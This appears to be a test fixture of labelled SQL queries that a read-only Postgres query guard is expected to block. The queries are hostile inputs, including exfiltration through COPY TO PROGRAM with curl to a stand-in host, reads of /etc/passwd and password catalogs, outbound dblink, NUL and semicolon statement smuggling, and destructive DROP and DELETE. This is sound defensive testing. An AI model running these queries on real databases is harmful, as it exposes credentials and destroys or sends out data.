-- block read_only: DML
DELETE FROM orders
---
-- block read_only: DML
INSERT INTO orders VALUES (1)
---
-- block read_only: DML
UPDATE orders SET note = ''
---
-- block syntax_allowed: DML inside a common table expression
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
---
-- block read_only: DDL
DROP TABLE orders
---
-- block read_only: DDL
CREATE TABLE x AS SELECT 1
---
-- block read_only: TRUNCATE
TRUNCATE orders
---
-- block no_locks: makes a table
SELECT * INTO copied FROM orders
---
-- block no_locks: row lock
SELECT * FROM orders FOR UPDATE
---
-- block no_locks: row lock in a subquery
SELECT * FROM (SELECT * FROM orders FOR SHARE) o
---
-- block read_only: table lock
LOCK TABLE orders
---
-- block read_only: files
COPY orders TO '/tmp/x'
---
-- block read_only: programs
COPY orders TO PROGRAM 'curl eve.test'
---
-- block read_only: scripting
DO $$ BEGIN PERFORM 1; END $$
---
-- block read_only: scripting
CALL procedure()
---
-- block read_only: settings
SET ROLE postgres
---
-- block read_only: settings
RESET ROLE
---
-- block function_allowed: settings
SELECT set_config('default_transaction_read_only', 'off', false)
---
-- block function_allowed: settings
SELECT current_setting('request.jwt.claims')
---
-- block function_allowed: qualified
SELECT pg_catalog.set_config('a.b', 'c', false)
---
-- block function_allowed: upper case
SELECT PG_SLEEP(100)
---
-- block function_allowed: quoted
SELECT "pg_sleep"(100)
---
-- block function_allowed: files
SELECT pg_read_file('/etc/passwd')
---
-- block function_allowed: large objects
SELECT lo_import('/etc/passwd')
---
-- block function_allowed: other sessions
SELECT pg_terminate_backend(1)
---
-- block function_allowed: locks
SELECT pg_advisory_lock(1)
---
-- block function_allowed: notifications
SELECT pg_notify('a', 'b')
---
-- block function_allowed: runs SQL text
SELECT query_to_xml('DELETE FROM orders', true, true, '')
---
-- block function_allowed: runs SQL text, and is called stable
SELECT * FROM ts_stat('SELECT v FROM orders')
---
-- block function_allowed: another database
SELECT * FROM dblink('host=eve', 'SELECT 1') AS t(a int)
---
-- block function_allowed: in FROM
SELECT * FROM pg_ls_dir('/')
---
-- block function_allowed: in LATERAL
SELECT * FROM orders, LATERAL pg_sleep(1)
---
-- block function_allowed: in ORDER BY
SELECT 1 ORDER BY nextval('orders_id_seq')
---
-- block function_allowed: somebody's function that shadows a name
SELECT public.lower('X')
---
-- block read_only: would run
EXPLAIN ANALYZE DELETE FROM orders
---
-- block read_only: LISTEN
LISTEN channel
---
-- block read_only: NOTIFY
NOTIFY channel
---
-- block read_only: transaction
COMMIT
---
-- block read_only: grants
GRANT ALL ON orders TO PUBLIC
---
-- block read_only: prepared
PREPARE p AS SELECT 1
---
-- block read_only: cursors
DECLARE c CURSOR FOR SELECT 1
---
-- block single_statement: two statements
SELECT 1; SELECT 2
---
-- block single_statement: ends the transaction
SELECT 1; COMMIT; DROP TABLE orders
---
-- block system_tables: other sessions
SELECT * FROM pg_stat_activity
---
-- block system_tables: roles
SELECT rolname FROM pg_catalog.pg_roles
---
-- block system_tables: databases
SELECT datname FROM pg_database
---
-- block system_tables: passwords
SELECT * FROM pg_authid
---
-- ask generated_rows: rows from nothing
SELECT generate_series(1, 1000000000)
---
-- block characters: a no-break space is an identifier character to Postgres
SELECT{nbsp}1
---
-- block characters: NUL ends the text for a C parser
SELECT 1 {nul}; DROP TABLE orders
---
-- block unicode_escape: U& names
SELECT U&"d\0061ta" FROM orders
---
-- block unterminated: dollar quote
SELECT $tag$ never closed
---
-- block unterminated: nested comments nest in Postgres
SELECT 1 /* outer /* inner */
---
-- block depth: deep
{deep 100}
---
-- block syntax: broken
SELECT FROM WHERE )
---
-- block empty: comment only
-- nothing here
---
-- ask join_depth: six joins
SELECT 1 FROM t a JOIN t b USING (id) JOIN t c USING (id) JOIN t d USING (id) JOIN t e USING (id) JOIN t f USING (id) JOIN t g USING (id)
---
-- ask subquery_nesting: four deep
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT 1) a) b) c) d
---
-- block syntax_allowed: roles of other tenants by number
SELECT n::regrole FROM generate_series(16384, 99999) n
---
-- block syntax_allowed: roles by number, in a column definition
SELECT * FROM json_to_recordset('[{"a": 10}]') AS x(a regrole)
---
-- block syntax_allowed: roles by number, in RETURNING
SELECT JSON_VALUE('10', '$' RETURNING regrole)
---
-- block syntax_allowed: roles by number, in XMLTABLE
SELECT * FROM XMLTABLE('/r' PASSING note COLUMNS a regrole PATH 'a')
---
-- block syntax_allowed: access lists name roles
SELECT '=r/postgres'::aclitem
---
-- block function_allowed: roles by number, by a function
SELECT pg_get_userbyid(10)
---
-- block function_allowed: roles by number, built
SELECT makeaclitem(10, 10, 'SELECT', false)::text
---
-- block function_allowed: roles and databases described
SELECT pg_describe_object(1260, 10, 0)
---
-- block function_allowed: comments of other databases
SELECT shobj_description(1, 'pg_database')
---
-- block function_allowed: the call syntax of a cast
SELECT regrole(10)
---
-- block function_allowed: runs SQL text, and has a harmless overload
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM secrets')
---
-- block function_allowed: reads a table named in a text
SELECT table_to_xml('secrets'::regclass, true, true, '')
---
-- block function_allowed: reads a cursor
SELECT cursor_to_xml('c', 1, true, true, '')
---
-- block function_allowed: runs SQL text (tablefunc)
SELECT * FROM crosstab('DELETE FROM orders RETURNING 1') AS t(a int)
---
-- block function_allowed: in the default of an XMLTABLE column
SELECT * FROM XMLTABLE('/r' PASSING note COLUMNS a text PATH 'a' DEFAULT pg_read_file('x'))
---
-- block function_allowed: in a window frame
SELECT sum(1) OVER (ROWS BETWEEN nextval('s') PRECEDING AND CURRENT ROW)
---
-- block function_allowed: in LIMIT
SELECT 1 LIMIT setval('s', 9)
---
-- block function_allowed: in VALUES
VALUES (pg_terminate_backend(1))
---
-- block function_allowed: in a sampling fraction
SELECT * FROM orders TABLESAMPLE bernoulli (pg_sleep(9))
---
-- block function_allowed: a name of pg_temp
SELECT pg_temp.lower('X')
---
-- block function_allowed: an extension's name claimed for another schema
SELECT evil.st_area(geom) FROM places
---
-- block syntax_allowed: somebody's operator is somebody's function
SELECT 1 OPERATOR(public.+) 2
---
-- block syntax_allowed: somebody's operator in ORDER BY
SELECT * FROM orders ORDER BY id USING OPERATOR(public.<)
---
-- block syntax_allowed: somebody's operator before ANY
SELECT 1 OPERATOR(public.=) ANY (SELECT 1)
---
-- block syntax_allowed: somebody's sampling method is a function
SELECT * FROM orders TABLESAMPLE evil (1)
---
-- block syntax_allowed: DML in a CTE of a subquery
SELECT * FROM (WITH x AS (UPDATE orders SET note = '' RETURNING 1) SELECT * FROM x) q
---
-- block syntax_allowed: MERGE in a CTE
WITH x AS (MERGE INTO orders USING other ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1
---
-- block no_locks: INTO in the second half of a UNION
SELECT 1 UNION SELECT 2 INTO copied
---
-- block no_locks: a lock in the second half of a UNION
(SELECT 1) UNION (SELECT id FROM orders FOR NO KEY UPDATE)
---
-- block system_tables: a CTE of that name elsewhere
SELECT * FROM (WITH pg_authid AS (SELECT 1) SELECT 1) x, pg_authid
---
-- block system_tables: a CTE that reads the table of its name
WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid
---
-- block system_tables: quoted
SELECT * FROM "pg_catalog"."pg_shadow"
---
-- block system_tables: values of protected columns
SELECT most_common_vals FROM pg_stats
---
-- block system_tables: settings
TABLE pg_settings
---
-- block system_tables: passwords of foreign servers
SELECT * FROM information_schema.user_mapping_options
---
-- block system_tables: other databases' statistics
SELECT * FROM pg_stat_database
---
-- block system_tables: other people's statements
SELECT query FROM pg_stat_statements
---
-- block system_tables: temporary tables
SELECT * FROM pg_temp_3.stolen
---
-- block read_only: EXPLAIN of a write inside a CTE
EXPLAIN (ANALYZE) WITH x AS (DELETE FROM orders RETURNING 1) SELECT * FROM x
---
-- ask readers_disagree: an operator that sqlglot does not know
SELECT * FROM places WHERE area ~= box '(0,0,3,3)'
---
-- block unterminated: a dollar quote may follow a number; what looks like code is text
SELECT 1$a$'$a$ || U&'\0041' || '
---
-- ask readers_disagree: the second half of an E text keeps its backslashes, which sqlglot does not know
SELECT E'a'
'\' || U&"x" || '
---
-- block depth: a chain of subscripts
SELECT a[1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1] FROM t
